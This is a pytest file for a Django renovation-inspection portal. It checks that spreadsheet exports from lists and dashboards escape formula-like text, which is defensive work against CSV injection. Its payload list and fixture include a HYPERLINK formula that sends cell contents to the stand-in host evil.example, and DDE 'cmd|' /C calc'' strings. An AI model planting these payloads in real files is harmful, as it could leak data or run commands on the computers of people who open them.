"""Exports are safe to open in a spreadsheet: text that would run as a formula (OWASP "CSV injection") is escaped
in CSV and written as plain text in XLSX, in every export (lists and dashboards); numbers stay numbers."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from inspections.models import ChecklistTemplate, Inspection, RectificationIssue
from projects.models import Project
from renovation_portal.exports import table_response

# Each character OWASP names, in a payload that a spreadsheet would run.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))


def xlsx_cells(response, sheet=None) -> list[list]:
    book = load_workbook(io.BytesIO(response.content))  # not read-only: cells keep their data_type
    return [list(row) for row in (book[sheet] if sheet else book.active).iter_rows()]


def test_formula_like_text_is_escaped_in_csv_and_plain_text_in_xlsx_while_numbers_stay_numbers():
    rows = [[payload, -3, Decimal("-12.50"), "普通文字", "a=b"] for payload in PAYLOADS]
    lines = csv_rows(table_response("t", "csv", [("t", ["=header", "n", "d", "text", "inner"], rows)]))
    assert lines[0][0] == "'=header"
    for payload, line in zip(PAYLOADS, lines[1:]):
        assert line == ["'" + payload, "-3", "-12.50", "普通文字", "a=b"]

    cells = xlsx_cells(table_response("t", "xlsx", [("t", ["=header", "n", "d", "text", "inner"], rows)]))
    assert cells[0][0].value == "=header" and cells[0][0].data_type == "s"
    for payload, row in zip(PAYLOADS, cells[1:]):
        assert all(cell.data_type != "f" for cell in row), payload
        # kept as entered (an XML parser reads a stored carriage return back as a line feed)
        assert row[0].value == payload.replace("\r", "\n")
        assert row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].value == -3 and row[1].data_type == "n" and not row[1].quotePrefix
        assert row[2].value == -12.5 and row[2].data_type == "n"
        assert row[3].value == "普通文字" and not row[3].quotePrefix


@pytest.fixture
def hostile(tree):
    """A compound address, a finding, a location and a contractor name that are all formulas."""
    compound = tree["compound_a"]
    compound.address = '=HYPERLINK("http://evil.example","地址")'
    compound.save(update_fields=["address"])
    tree["company_a"].name = "=SUM(1+9)*cmd"
    tree["company_a"].save(update_fields=["name"])
    project = Project.objects.get(compound=compound)
    template = ChecklistTemplate.objects.create(name="表", tier=2)
    inspection = Inspection.objects.create(
        project=project, tier=2, template=template, status="filed", planned_date=timezone.localdate()
    )
    RectificationIssue.objects.create(
        inspection=inspection,
        project=project,
        contractor=project.contractor,
        kind="road",
        description="-1+cmd",
        location="+1号楼",
        severity="minor",
        tier=2,
        deadline=timezone.localdate() + timedelta(days=5),
    )
    return compound


def test_compound_list_export_escapes_a_formula_address(hostile, actors, client):
    client.force_login(actors["district_official"])
    url = reverse("communities:compound-list")
    lines = csv_rows(client.get(url, {"export": "csv"}))
    column = lines[0].index("地址")
    assert '\'=HYPERLINK("http://evil.example","地址")' in [line[column] for line in lines[1:]]
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    address = [row[column] for row in cells[1:] if row[column].value and row[column].value.startswith("=")]
    assert len(address) == 1 and address[0].data_type == "s"
    assert all(cell.data_type != "f" for row in cells for cell in row)


def test_issue_list_export_escapes_formula_findings_and_locations(hostile, actors, client):
    client.force_login(actors["district_official"])
    url = reverse("inspections:issue-list")
    lines = csv_rows(client.get(url, {"export": "csv"}))
    assert lines[1][0] == "'-1+cmd" and lines[1][2] == "'+1号楼" and lines[1][6] == "'=SUM(1+9)*cmd"
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    assert [cells[1][i].value for i in (0, 2, 6)] == ["-1+cmd", "+1号楼", "=SUM(1+9)*cmd"]
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert cells[1][3].value == 2 and cells[1][3].data_type == "n"  # the tier stays a number


def test_dashboard_export_escapes_a_formula_contractor_name(hostile, actors, client, tree):
    client.force_login(actors["district_official"])
    url = reverse("dashboard:place", args=["district", tree["district"].pk])
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}), sheet="施工单位")
    names = [row[0] for row in cells[1:]]
    assert "=SUM(1+9)*cmd" in [cell.value for cell in names]
    assert all(cell.data_type != "f" for row in cells for cell in row)
